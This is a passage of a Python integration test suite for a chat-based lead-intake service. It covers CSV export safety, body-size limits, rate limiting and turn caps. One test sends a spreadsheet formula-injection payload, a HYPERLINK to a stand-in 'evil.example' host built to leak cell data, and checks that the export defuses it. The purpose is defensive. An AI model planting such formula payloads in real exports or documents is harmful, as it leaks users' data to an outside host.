        status, _, body = self.server.call("GET", "/api/leads", None,
                                           self.server.auth(ADMIN))
        self.assertEqual(status, 200, body[:200])
        self.assertIn(CSV_CONV, [x["conversation_id"]
                                 for x in json.loads(body)["leads"]])

    def test_csv_injection_defused(self):
        status, headers, body = self.server.call(
            "GET", "/api/leads?format=csv", None, self.server.auth(ADMIN))
        self.assertEqual(status, 200, body[:200])
        self.assertTrue(headers.get("content-type", "").startswith(
            "text/csv"), headers.get("content-type"))
        rows = list(csv.reader(io.StringIO(body.decode("utf-8"),
                                           newline="")))
        head = rows[0]
        self.assertEqual(head[:3], ["conversation_id", "created_at",
                                    "updated_at"])
        mine = [r for r in rows[1:] if r and r[0] == CSV_CONV]
        self.assertEqual(len(mine), 1, rows)
        got = dict(zip(head, mine[0]))
        for field, want in CSV_DEFUSED.items():
            self.assertEqual(got.get(field), want, field)
        # no cell of any row starts like a formula
        for r in rows[1:]:
            for cell in r:
                self.assertNotIn(cell[:1], ("=", "+", "-", "@", "\t", "\r"),
                                 "a cell starts like a formula: %r" % cell)
        # the JSON keeps the values as they are
        status, _, body = self.server.call(
            "GET", "/api/leads/%s" % CSV_CONV, None, self.server.auth(ADMIN))
        self.assertEqual(status, 200)
        fields = json.loads(body)["fields"]
        self.assertEqual(fields["full_name"]["value"], CSV_VALUES["full_name"])

    def test_csv_injection_from_a_conversation(self):
        """A visitor's message that starts with a formula, through the
        rule-based extractor into the lead's summary, out of the CSV
        defused."""
        conv, token = self.server.create_conversation()
        text = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click here") '
                "I was hurt in a car accident on the highway last week.")
        self.server.turn(conv, token, text)
        quiesce(self.server)
        rows = self.server.query("SELECT field, value FROM lead_fields "
                                 "WHERE conversation_id = ?", (conv,))
        values = {r["field"]: r["value"] for r in rows}
        self.assertTrue(values.get("summary", "").startswith("="),
                        "the summary did not keep the formula: %r" % values)
        status, _, body = self.server.call(
            "GET", "/api/leads?format=csv", None, self.server.auth(ADMIN))
        self.assertEqual(status, 200)
        rows = list(csv.reader(io.StringIO(body.decode("utf-8"),
                                           newline="")))
        # (a random id that starts with "-" is itself defused: "'-...")
        mine = [r for r in rows[1:] if r and r[0] in (conv, "'" + conv)]
        self.assertEqual(len(mine), 1, rows)
        got = dict(zip(rows[0], mine[0]))
        self.assertEqual(got["summary"], "'" + values["summary"])


class HostileLighttpd(Hostile, ServerTestCase):
    web_server = "lighttpd"


class HostileCgi(Hostile, ServerTestCase):
    web_server = "cgi"


# --------------------------------------------------------------------------
# a body limit of the program's own, lower than the web server's

class BodyLimitFromFile(Checks):
    """max_body = 2048 in the program's configuration file, as on a shared
    host (intake.conf beside htaccess-cgi, whose LimitRequestBody stays at
    65536): the web server lets a 4000-byte body through and the program
    must answer it 413 too_large itself, whole."""
    word_delay_ms = 0

    @classmethod
    def before_start(cls, srv):
        path = os.path.join(srv.tmp, "intake.conf")
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(fd, "w") as f:
            f.write("max_body = 2048\n")
        srv.env["INTAKE_CONFIG"] = path

    @classmethod
    def prepare(cls):
        cls.conv, cls.token = cls.server.create_conversation()

    def tearDown(self):
        try:
            if self.server is not None:
                self.check_alive()
        finally:
            super().tearDown()

    def post(self, size):
        head, tail = b'{"text":"hi","pad":"', b'"}'
        body = head + b"x" * (size - len(head) - len(tail)) + tail
        self.assertEqual(len(body), size)
        return self.server.call(
            "POST", "/api/conversations/%s/messages" % self.conv, body,
            self.server.auth(self.token), content_type=JSON_CT)

    def test_over_the_programs_limit_is_413(self):
        for size in (2049, 4000, 30000):
            with self.subTest(size=size):
                before = snapshot(self.server)
                try:
                    status, headers, body = self.post(size)
                except harness.HarnessError as e:
                    self.fail("a body of %d bytes (limit 2048): no complete "
                              "HTTP answer: %s" % (size, e))
                self.check_error(status, headers, body, 413, what="%d bytes"
                                 % size)
                self.assertEqual(snapshot(self.server), before)

    def test_under_the_limit_is_taken(self):
        r = self.server.request(
            "POST", "/api/conversations/%s/messages" % self.conv,
            b'{"text":"Hello, a short one.","pad":"' + b"y" * 1900 + b'"}',
            self.server.auth(self.token), content_type=JSON_CT)
        try:
            self.assertEqual(r.status, 200)
            events = collect(r)
        finally:
            r.close()
        self.assertEqual(events[-1].data, {"status": "complete"})
        quiesce(self.server)


class BodyLimitFromFileLighttpd(BodyLimitFromFile, ServerTestCase):
    web_server = "lighttpd"


class BodyLimitFromFileCgi(BodyLimitFromFile, ServerTestCase):
    web_server = "cgi"


# --------------------------------------------------------------------------
# rate limits, counted in the database

def wait_for_fresh_minute(need=6.0):
    """The limits count per wall-clock minute: when fewer than need
    seconds are left of this one, wait for the next (at most need s)."""
    left = 60.0 - (time.time() % 60.0)
    if left < need:
        time.sleep(left + 0.3)


class RateLimits(Checks):
    server_env = {"INTAKE_RATE_CONVERSATIONS": "3",
                  "INTAKE_RATE_MESSAGES": "4"}
    word_delay_ms = 0

    def tearDown(self):
        try:
            if self.server is not None:
                self.check_alive()
        finally:
            super().tearDown()

    def check_429(self, status, headers, body, what):
        self.check_error(status, headers, body, 429, "rate_limited", what)
        ra = headers.get("retry-after")
        self.assertIsNotNone(ra, "%s: no Retry-After" % what)
        self.assertRegex(ra, r"^[0-9]+$", what)
        self.assertTrue(1 <= int(ra) <= 60, "%s: Retry-After %s" % (what, ra))

    def test_conversations_then_messages_limited(self):
        srv = self.server
        wait_for_fresh_minute()
        convs = []
        for i in range(3):
            status, _, body = srv.call("POST", "/api/conversations")
            self.assertEqual(status, 201, "conversation %d: %d %r" % (
                i + 1, status, body[:200]))
            obj = json.loads(body)
            convs.append((obj["id"], obj["token"]))
        before = snapshot(srv)
        for i in range(2):      # the 4th and the 5th
            status, headers, body = srv.call("POST", "/api/conversations")
            self.check_429(status, headers, body, "conversation %d" % (i + 4))
        self.assertEqual(snapshot(srv), before, "a refused create stored")
        self.assertEqual(srv.counts()[0], 3)
        # reading is not limited
        self.assertEqual(srv.get_conversation(*convs[0])["messages"], [])

        # four messages over two conversations (two processes' worth under
        # CGI: each request is a process of its own)
        for i in range(4):
            conv, token = convs[i % 2]
            r, events = srv.turn(conv, token, "Message number %d, my name "
                                 "is Jane Roe." % (i + 1))
            self.assertEqual(events[-1].data, {"status": "complete"},
                             "message %d" % (i + 1))
        quiesce(srv)
        before = snapshot(srv)
        for conv, token in (convs[0], convs[2]):
            r = srv.post_message(conv, token, "One more, please.")
            try:
                status, headers, body = r.status, r.headers, r.read_body()
            finally:
                r.close()
            self.check_429(status, headers, body, "a 5th message")
        self.assertEqual(snapshot(srv), before, "a refused message stored")
        self.assertEqual(srv.counts()[1], 8)
        # One row per admitted request (a sliding window): the refused
        # ones are not counted.
        rows = {(r["kind"]): r["count"] for r in srv.query(
            "SELECT kind, count(*) AS count FROM rate_limits "
            "GROUP BY kind")}
        self.assertEqual(rows, {"conversation": 3, "message": 4})


class RateLimitsLighttpd(RateLimits, ServerTestCase):
    web_server = "lighttpd"


class RateLimitsCgi(RateLimits, ServerTestCase):
    web_server = "cgi"


class TurnCap(Checks, ServerTestCase):
    """INTAKE_MAX_TURNS=2: the third message of a conversation is 429."""
    server_env = {"INTAKE_MAX_TURNS": "2"}
    word_delay_ms = 0
    web_server = "lighttpd"

    def test_third_turn_refused(self):
        srv = self.server
        conv, token = srv.create_conversation()
        for i in range(2):
            r, events = srv.turn(conv, token, "Turn %d: my name is Ann Lee."
                                 % (i + 1))
            self.assertEqual(events[-1].data, {"status": "complete"})
        quiesce(srv)
        before = snapshot(srv)
        for text in ("A third message.", "A fourth."):
            r = srv.post_message(conv, token, text, client_id=text)
            try:
                status, headers, body = r.status, r.headers, r.read_body()
            finally:
                r.close()
            self.check_error(status, headers, body, 429, "rate_limited",
                             "turn 3")
            ra = headers.get("retry-after", "")
            self.assertRegex(ra, r"^[1-9][0-9]*$", "Retry-After %r" % ra)
        self.assertEqual(snapshot(srv), before, "a refused turn stored")
        self.assertEqual(srv.counts(conv), (1, 4, 0))
        # the cap is per conversation
        other, otoken = srv.create_conversation()
        r, events = srv.turn(other, otoken, "Hello.")
        self.assertEqual(events[-1].data, {"status": "complete"})
        quiesce(srv)
        self.check_alive()


if __name__ == "__main__":
    main("integration_hostile")
